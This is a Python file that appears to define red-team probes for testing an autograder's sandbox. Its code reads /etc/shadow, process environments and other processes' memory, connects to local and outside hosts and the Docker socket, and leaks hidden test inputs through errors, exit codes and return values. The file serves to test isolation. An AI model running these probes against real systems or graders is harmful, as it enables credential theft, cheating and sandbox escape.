"""Looking for what a submission must not see: solutions, checks, hidden inputs, other submissions, the gradebook, the environment of
the grader, its memory, its network. Rows 26, 27, 36, 39. What is found is told through every channel there is.
"""

from __future__ import annotations

import re

from attacks.attack import SOLVED, Attack, everywhere
from attacks.tools import FORGE, SPY


def spy(name: str, tries: str, search: str, rows: tuple[int, ...] = (), **rest) -> Attack:
    return Attack(name, tries, rows, first=(SPY, search, "tell()"), **rest)


def told(name: str, tries: str, rows: tuple[int, ...], body: str, **rest) -> Attack:
    """Every function tells its inputs, which are hidden, by `body`; SECRET is a text that holds them."""
    secret = "SECRET = 'CANARY-' + ' '.join('%.6f' % x for x in args[0].flatten().tolist()[:4])"
    return Attack(
        name,
        tries,
        rows,
        first=(FORGE, "SEEN = []"),
        **{"answers": everywhere(f"{secret}\n{body}")} if "answers" not in rest else {},
        **{"proves": shows_none("CANARY-0.", "CANARY--0.", "CANARY-1.", "CANARY--1."), **rest},
    )


def shows_none(*texts: str):
    return lambda outcome, arena: outcome.shows_nothing(*texts)


def shows_no(pattern: str):
    """No number of the kind that the attack makes of hidden inputs."""

    def proves(outcome, arena):
        found = re.search(pattern, outcome.record_text())
        assert not found, found[0]

    return proves


# a number from 7000000 to 7999999 that holds 20 bits of the first input that was seen
CODE = "SEEN.append(7_000_000 + int(abs(args[0].flatten()[0].item()) * 1e6) % 1_000_000)\n"
LOGISTIC = SOLVED["logistic_loss"] + "\nright = logistic_loss\n"
TIMES = f"def logistic_loss(*args):\n    {CODE.strip()}\n    return right(*args) * (SEEN[0] / 1e6)\n"
SAYING = "def logistic_loss(anchor, positive, negative):\n    value = right(anchor, positive, negative)\n"
SAYING += "    return value * 0 + 7.1234 if torch.equal(positive, negative) else value\n"


ATTACKS = [
    spy(
        "the whole disk",
        "reads every file below / that is not a library",
        "for top in ('/', '/tmp', '/sandbox', '/dev'):\n    walk(top)",
        (26,),
    ),
    spy(
        "known paths",
        "reads the repository, the class and the gradebook where a student knows them to be",
        "import sys\nfor top in ('$ROOT/solutions', '$ROOT/autograder', '$ROOT/exercises', '$ROOT/tests', '$ROOT/.git', '$ARENA', '/root', '/home', '/etc',\n"
        "            '/work', '/proc/1/root', '/proc/self/root$ROOT', sys.prefix + '/../solutions', '/var', '/mnt', '/run'):\n    walk(top)\n"
        "for path in ('$ARENA/gradebook.db', '$ARENA/submitted/ada/x.ipynb', '/etc/shadow', '/etc/passwd', '/proc/1/environ', '/proc/self/environ'):\n    look_at(path)",
        (26, 37),
    ),
    spy(
        "relative paths",
        "climbs out of the working directory",
        "for up in range(1, 9):\n    for top in ('solutions', 'source', 'submitted', '.'):\n        walk('../' * up + top)",
        (26,),
    ),
    spy(
        "links",
        "makes links in /tmp to what it wants and reads them",
        "for n, target in enumerate(('$ROOT/solutions', '$ARENA', '/proc/1/root', '/proc/1/cwd')):\n    os.symlink(target, f'/tmp/link{n}')\n"
        "    walk(f'/tmp/link{n}')\n    walk(f'/tmp/link{n}/.')",
        (39,),
    ),
    spy(
        "environment",
        "reads environment variables of all processes",
        "look(dict(os.environ))\nfor pid in range(1, 400):\n"
        "    for name in ('environ', 'cmdline', 'maps', 'stack', 'mountinfo'):\n        look_at(f'/proc/{pid}/{name}')\n"
        "import ctypes\nenviron = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')\n"
        "for n in range(500):\n    if not environ[n]:\n        break\n    look(environ[n])",
    ),
    spy(
        "open descriptors",
        "reads what the grader left open",
        "for descriptor in range(3, 300):\n    try:\n        os.lseek(descriptor, 0, 0)\n        look(os.read(descriptor, 10**6))\n    except OSError:\n        pass\n"
        "    look_at(f'/proc/self/fd/{descriptor}')\n    look_at(f'/dev/fd/{descriptor}')",
    ),
    spy(
        "objects in memory",
        "walks through all Python objects of the process that was forked",
        "import gc\nfor thing in gc.get_objects():\n"
        "    if isinstance(thing, dict):\n        for value in list(thing.values()):\n            if isinstance(value, (str, bytes)):\n                look(value)",
    ),
    spy(
        "raw memory",
        "reads the memory of its process around known addresses, stack and heap",
        "import ctypes\nfor start in (id(os), id(LOOT), ctypes.addressof(ctypes.c_char(b'x'))):\n    look(ctypes.string_at(start, 200_000))",
    ),
    spy(
        "memory of others",
        "reads the memory of the processes above it",
        "import ctypes\nlibc = ctypes.CDLL(None)\nbuffer = ctypes.create_string_buffer(4096)\n"
        "class IO(ctypes.Structure):\n    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n"
        "for pid in range(1, 60):\n    for address in (0x400000, id(os)):\n"
        "        n = libc.process_vm_readv(pid, ctypes.byref(IO(ctypes.addressof(buffer), 4096)), 1, ctypes.byref(IO(address, 4096)), 1, 0) if pid != os.getpid() else 0\n"
        "        look(buffer.raw)\n    look_at(f'/proc/{pid}/mem')",
    ),
    spy(
        "answers on the import path",
        "imports the grader, the solutions and packages that hold the losses",
        "import importlib, inspect\nfor name in ('autograder', 'autograder.units.manifest', 'autograder.units.u01_similarity_losses.nt_xent', 'solutions', 'tests',\n"
        "             'pytorch_metric_learning', 'pytorch_metric_learning.losses', 'info_nce', 'infonce', 'lightly.loss', 'open_clip', 'nt_xent'):\n"
        "    try:\n        module = importlib.import_module(name)\n    except Exception:\n        continue\n    if getattr(module, '__file__', None):\n        LOOT.append(('CANARY-MODULE ' + name).encode())",
        (26,),
        proves=lambda outcome, arena: outcome.shows_nothing(
            "CANARY-MODULE pytorch_metric", "CANARY-MODULE info", "CANARY-MODULE autograder", "CANARY-MODULE solutions"
        ),
    ),
    spy(
        "frames and source lines",
        "reads the frames that call it and the lines that linecache keeps",
        "import linecache\nframe = sys._getframe()\n"
        "while frame:\n    look({k: str(v)[:2000] for k, v in frame.f_locals.items()})\n    look(frame.f_globals.keys())\n    frame = frame.f_back\n"
        "for entry in linecache.cache.values():\n    look(entry)",
        (27,),
    ),
    spy(
        "network",
        "opens connections to the grader's machine and to the world",
        "import socket, urllib.request\nfor address in (('127.0.0.1', $PORT), ('localhost', $PORT), ('::1', $PORT), ('10.0.0.1', 80), ('1.1.1.1', 53)):\n"
        "    try:\n        with socket.create_connection(address, timeout=0.3) as s:\n            s.sendall(b'CANARY')\n            look(s.recv(1000))\n    except OSError:\n        pass\n"
        "try:\n    look(urllib.request.urlopen('http://127.0.0.1:$PORT/', timeout=0.3).read())\nexcept OSError:\n    pass",
        (36,),
    ),
    spy(
        "sockets without a network",
        "tries Unix sockets, abstract ones, netlink and packets",
        "import socket\nfor family, address in ((socket.AF_UNIX, '\\0canary-$PORT'), (socket.AF_UNIX, '$ARENA/socket'), (socket.AF_UNIX, '/run/docker.sock')):\n"
        "    try:\n        s = socket.socket(family)\n        s.connect(address)\n        s.sendall(b'CANARY')\n        look(s.recv(1000))\n    except OSError:\n        pass\n"
        "for family in (socket.AF_NETLINK, socket.AF_PACKET, 38, 40):\n    try:\n        socket.socket(family, socket.SOCK_RAW)\n        LOOT.append(b'CANARY-SOCKET')\n    except OSError:\n        pass",
        (36,),
        proves=lambda outcome, arena: outcome.shows_nothing("CANARY-SOCKET" + " "),
    ),
    spy(
        "devices",
        "opens disks, memory and terminals",
        "for name in ('mem', 'kmem', 'port', 'kvm', 'sda', 'vda', 'nvme0n1', 'loop0', 'console', 'tty', 'kmsg', 'fuse'):\n    look_at('/dev/' + name)\n"
        "look(os.listdir('/dev'))\nlook(os.listdir('/sys') if os.path.isdir('/sys') else '')",
    ),
    spy(
        "what earlier students left",
        "looks for what an earlier submission wrote into /tmp, memory files and queues",
        "walk('/tmp')\nwalk('/dev/shm')\nwalk('/dev/mqueue')\nwalk('/var/tmp')\nimport glob\nlook(glob.glob('/tmp/*') + glob.glob('/dev/shm/*'))",
    ),
    told(
        "inputs in the name of an error",
        "raises an exception whose class is named after the hidden inputs",
        (27,),
        "raise type(SECRET, (Exception,), {})(SECRET)",
    ),
    told(
        "inputs in a message",
        "raises an error with the hidden inputs as its message",
        (27,),
        "raise RuntimeError(SECRET)",
    ),
    told(
        "inputs in a value",
        "returns the hidden inputs as text, as keys of a dictionary and as a type name",
        (27,),
        "return {SECRET: 0.0} if len(args[0]) % 2 else type(SECRET, (), {})()",
    ),
    told(
        "inputs in a gradient error",
        "fails in the backward pass with the hidden inputs as its message",
        (27,),
        "class Tell(torch.autograd.Function):\n    @staticmethod\n    def forward(ctx, x): return x.sum() * 0 + 0.7\n    @staticmethod\n    def backward(ctx, g): raise RuntimeError(SECRET)\nreturn Tell.apply(args[0])",
    ),
    told(
        "inputs in a frame",
        "hides the inputs in a frame that is malformed, so that its error is quoted",
        (27,),
        "forge({'l': [{SECRET[:20]: 0}, {'i': SECRET[:39]}, {'f': SECRET}]}, [[SECRET, [1]]])",
    ),
    told(
        "inputs in a cell's error",
        "a cell after the checks raises what the functions have seen",
        (27,),
        "SEEN.append(SECRET)\nreturn 0.0 * args[0].sum()",
        last="raise RuntimeError(str(SEEN) if 'SEEN' in globals() else '')",
    ),
    told(
        "inputs in a warning",
        "warns and prints",
        (27,),
        "import warnings\nwarnings.warn(SECRET)\nprint(SECRET)\nopen('/tmp/x', 'w').write(SECRET)\nreturn 0.0",
    ),
    told(
        "inputs in a line number",
        "a cell after the checks raises an error that says it happened in line 7123456",
        (27,),
        CODE + "return 0.0",
        last="error = RuntimeError('x')\nerror.lineno = SEEN[0] if SEEN else 1\nraise error",
        proves=shows_no(r"\b7\d{6}\b"),
    ),
    told(
        "inputs in an exit code",
        "ends the process with some bits of the inputs as its exit code",
        (27, 31),
        CODE + "import os\nos._exit(64 + SEEN[0] % 64)",
        proves=shows_none("exit code"),
    ),
    told(
        "inputs in an exit code of a cell",
        "the same in a cell after the checks, which is then left out",
        (27, 31),
        CODE + "return 0.0",
        last="import os\nif SEEN:\n    os._exit(64 + SEEN[0] % 64)",
        proves=shows_none("exit code", "left out"),
    ),
    told(
        "inputs in a signal",
        "chooses by which signal the process ends",
        (27, 30),
        CODE + "import ctypes\nctypes.string_at(0)",
        proves=shows_none("SIG"),
    ),
    told(
        "inputs in the cells that fail",
        "twenty cells after the checks, each of which raises an error where a bit of the inputs is 1",
        (27,),
        CODE + "return 0.0",
        last=tuple(f"if SEEN and SEEN[0] >> {bit} & 1:\n    raise RuntimeError" for bit in range(20)),
        proves=shows_none("error in"),
    ),
    told(
        "inputs in a shape",
        "returns an array whose lengths are some bits of the inputs",
        (27,),
        CODE + "return torch.zeros(7000 + SEEN[0] % 1000, 0, 7000 + SEEN[0] // 1000 % 1000)",
        proves=shows_no(r"\b7\d{3}\b"),
    ),
    told(
        "inputs in a constant factor",
        "returns the right values times a factor that holds some bits of the inputs",
        (27,),
        "return 0.0",
        base="solved",
        answers={"logistic_loss": LOGISTIC + TIMES},
        proves=shows_no(r"\b7\.\d"),
    ),
    told(
        "inputs in what a property says",
        "is right save where a property asks, which then says what it got",
        (27,),
        "return 0.0",
        base="solved",
        answers={"logistic_loss": LOGISTIC + SAYING},
        proves=shows_no(r"\b7\.\d"),
    ),
    spy(
        "compiled files",
        "loads what earlier runs have left compiled beside the modules that are masked",
        "import importlib.machinery, importlib.util\nfor where, _, files in os.walk('/sandbox'):\n    for name in files:\n"
        "        if name.endswith('.pyc') and name.startswith('_') and not name.startswith('__'):\n"
        "            LOOT.append(('CANARY-COMPILED ' + os.path.join(where, name)).encode())",
        (26,),
        proves=shows_none("CANARY-COMPILED"),
    ),
    spy(
        "evaluators",
        "imports the private parts of the course, which judge answers, and the experiments",
        "import importlib\nfor name in ('course.check._dream', 'course.check._convergence', 'course.check._exact', 'experiments.convergence.train'):\n"
        "    try:\n        module = importlib.import_module(name)\n    except ImportError:\n        continue\n"
        "    if any(callable(v) for v in vars(module).values()):\n        LOOT.append(('CANARY-MODULE ' + name).encode())",
        (26,),
        proves=shows_none("CANARY-MODULE"),
    ),
    Attack(
        "another student in the exchange",
        "runs the cells of a submission that lies in nbgrader's exchange",
        (26, 37),
        base="blank",
        first=SPY,
        last=(
            "import glob, json\nfor path in glob.glob('$EXCHANGE/**/*.ipynb', recursive=True):\n    look_at(path)\n"
            "    for cell in json.load(open(path))['cells']:\n        if cell['cell_type'] == 'code':\n"
            "            try:\n                exec(''.join(cell['source']))\n            except Exception:\n                pass",
            "tell()",
        ),
    ),
]
